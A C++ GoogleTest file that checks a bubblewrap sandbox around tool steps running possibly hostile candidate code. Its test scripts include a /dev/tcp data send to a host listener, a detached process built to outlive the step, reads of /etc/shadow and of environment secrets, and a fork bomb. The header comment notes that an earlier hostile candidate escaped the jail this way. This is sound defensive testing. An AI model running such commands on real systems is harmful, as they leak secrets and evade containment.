// The one sandbox (gate/cpu/bubblewrap.h) around a jailed tool (gate/process.h run_tool), with real
// processes: what the record step of a hostile ModelNew did before it (issue 42, item 3) — reach
// a listener on the host's loopback, leave processes spinning after lathe, read root's files and
// lathe's environment — each tried by a shell script run as a tool that runs candidate code.
#include <gtest/gtest.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "gate/cpu/bubblewrap.h"
#include "proc_scan.h"
#include "gate/process.h"

namespace fs = std::filesystem;
using namespace lathe::gate;
using lathe::testing::processes_with;

namespace {

class sandbox_tool : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!find_bubblewrap().usable) GTEST_SKIP() << find_bubblewrap().why;
    char tmpl[] = "/tmp/lathe-sandbox-test-XXXXXX";
    dir_ = mkdtemp(tmpl);
    work_ = dir_ / "work";
    fs::create_directories(work_);
    jail_.candidate_code = true;
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }
  tool_result sh(const std::string& script, double timeout_s = 30) {
    return run_tool({"/bin/bash", "-c", script}, timeout_s, work_, &jail_);
  }
  fs::path dir_, work_;
  tool_jail jail_;
};

}  // namespace

TEST_F(sandbox_tool, says_how_it_confined_the_tool) {
  tool_result r = sh("echo hello");
  EXPECT_EQ(r.exit_code, 0) << r.output;
  EXPECT_NE(r.output.find("hello"), std::string::npos) << r.output;
  EXPECT_NE(r.jail.find("no network"), std::string::npos) << r.jail;
  EXPECT_NE(r.jail.find(find_bubblewrap().version), std::string::npos) << r.jail;
}

TEST_F(sandbox_tool, reaches_no_listener_on_the_hosts_loopback) {
  const int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(s, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  socklen_t len = sizeof a;
  ASSERT_EQ(getsockname(s, reinterpret_cast<sockaddr*>(&a), &len), 0);
  ASSERT_EQ(listen(s, 4), 0);
  const int port = ntohs(a.sin_port);
  // The same script outside the sandbox reaches it (the test can fail).
  ASSERT_EQ(std::system(("bash -c 'echo outside > /dev/tcp/127.0.0.1/" + std::to_string(port) + "'").c_str()), 0);
  const int first = accept(s, nullptr, nullptr);
  ASSERT_GE(first, 0);
  close(first);
  tool_result r = sh("echo stolen > /dev/tcp/127.0.0.1/" + std::to_string(port) + " && echo sent");
  EXPECT_EQ(r.output.find("sent"), std::string::npos) << r.output;
  pollfd p{s, POLLIN, 0};
  EXPECT_EQ(poll(&p, 1, 200), 0) << "a connection reached the host's listener from the sandbox";
  close(s);
}

TEST_F(sandbox_tool, leaves_nothing_alive_after_its_step) {
  // A detached process (its own session, double fork, no terminal) that spins: it outlived
  // lathe's hand-made jail.
  const std::string marker = "lathe-leftover-" + std::to_string(getpid());
  tool_result r = sh("(setsid bash -c 'exec -a " + marker + " bash -c \"while :; do :; done\"' &) ; sleep 0.5; echo started");
  EXPECT_NE(r.output.find("started"), std::string::npos) << r.output;
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(processes_with(marker), 0) << "a process of the tool outlived its step";
}

TEST_F(sandbox_tool, reads_no_root_file_and_writes_only_its_folder) {
  const fs::path secret = dir_ / "root-only";
  { std::ofstream(secret) << "root-secret-line\n"; }
  fs::permissions(secret, fs::perms::owner_read | fs::perms::owner_write);
  const fs::path outside = dir_ / "outside";
  fs::create_directories(outside);
  tool_result r = sh("cat " + secret.string() + "; cat /etc/shadow; echo x > " + outside.string() +
                     "/planted; echo y > mine; ls /root /work 2>&1 | head -3; echo done");
  EXPECT_NE(r.output.find("done"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("root-secret-line"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("root:"), std::string::npos) << r.output;  // /etc/shadow's first line
  EXPECT_FALSE(fs::exists(outside / "planted"));
  EXPECT_TRUE(fs::exists(work_ / "mine"));
}

// A tree outside the system's folders (a venv at /opt/torch/.venv, as on the H100 machine):
// bubblewrap run by root made the folders above it 0700, and the tool's own user could not reach
// it (a ModelNew's record step found no torch). /var/tmp, not /tmp: the jail's /tmp is its own.
TEST_F(sandbox_tool, reads_a_tree_whose_folders_above_are_not_bound) {
  char tmpl[] = "/var/tmp/lathe-sandbox-tree-XXXXXX";
  const fs::path top = mkdtemp(tmpl);
  const fs::path tree = top / "venv" / "lib";
  fs::create_directories(tree);
  { std::ofstream(tree / "module.py") << "reachable-line\n"; }
  for (const fs::path& p : {top, top / "venv", tree})
    fs::permissions(p, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                           fs::perms::others_read | fs::perms::others_exec);
  fs::permissions(tree / "module.py", fs::perms::owner_read | fs::perms::owner_write |
                                          fs::perms::group_read | fs::perms::others_read);
  jail_.read_trees.push_back(tree);
  tool_result r = sh("cat " + (tree / "module.py").string() + "; ls -ld /var /var/tmp 2>&1");
  std::error_code ec;
  fs::remove_all(top, ec);
  EXPECT_NE(r.output.find("reachable-line"), std::string::npos) << r.output << r.jail;
}

TEST_F(sandbox_tool, sees_none_of_lathes_environment_or_processes) {
  setenv("OPENAI_API_KEY", "sk-sandbox-secret", 1);
  setenv("LATHE_TOKEN", "lathe-secret", 1);
  tool_result r = sh("env; cat /proc/1/environ 2>/dev/null | tr '\\0' ' '; cat /proc/" + std::to_string(getpid()) +
                     "/environ 2>&1; ls /proc | grep -c '^[0-9]'");
  unsetenv("OPENAI_API_KEY");
  unsetenv("LATHE_TOKEN");
  EXPECT_EQ(r.output.find("sk-sandbox-secret"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("lathe-secret"), std::string::npos) << r.output;
  // Its own PID namespace: a handful of processes, none of lathe's.
  std::istringstream lines(r.output);
  std::string line, last;
  while (std::getline(lines, line))
    if (!line.empty()) last = line;
  EXPECT_LE(std::stoi(last), 6) << r.output;
}

TEST_F(sandbox_tool, a_timeout_kills_the_whole_sandbox) {
  const std::string marker = "lathe-timeout-" + std::to_string(getpid());
  const auto t0 = std::chrono::steady_clock::now();
  tool_result r = sh("exec -a " + marker + " bash -c 'while :; do :; done'", 1.5);
  const double s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  EXPECT_TRUE(r.timed_out);
  EXPECT_LT(s, 10);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(processes_with(marker), 0);
}

TEST_F(sandbox_tool, a_step_is_held_to_its_memory_and_process_limits_as_a_whole) {
  if (geteuid() != 0) GTEST_SKIP() << "cgroups are made by root only";
  // 128 MiB for the whole step; each process alone is far under RLIMIT_AS.
  jail_.step_memory = uint64_t{128} << 20;
  jail_.step_processes = 32;
  tool_result r = sh("python3 -c 'b = bytearray(400 << 20); print(\"allocated\", len(b))'");
  if (r.jail.find("no cgroup") != std::string::npos) GTEST_SKIP() << r.jail;
  EXPECT_NE(r.jail.find("128 MiB") == std::string::npos ? r.jail.find("0.125 GiB") : 0, std::string::npos) << r.jail;
  EXPECT_EQ(r.output.find("allocated"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("memory limit"), std::string::npos) << r.output;
  // A fork bomb stops at the step's process limit, and nothing of it is left.
  const std::string marker = "lathe-bomb-" + std::to_string(getpid());
  r = sh("exec -a " + marker + " python3 -c 'import os, time\nn = 0\nfor i in range(100):\n"
         "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
         "    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n    n += 1\nprint(\"forked\", n, flush=True)'",
         20);
  const size_t at = r.output.find("forked ");
  ASSERT_NE(at, std::string::npos) << r.output;
  EXPECT_LT(std::stoi(r.output.substr(at + 7)), 32) << r.output;
  EXPECT_EQ(processes_with(marker), 0);
}
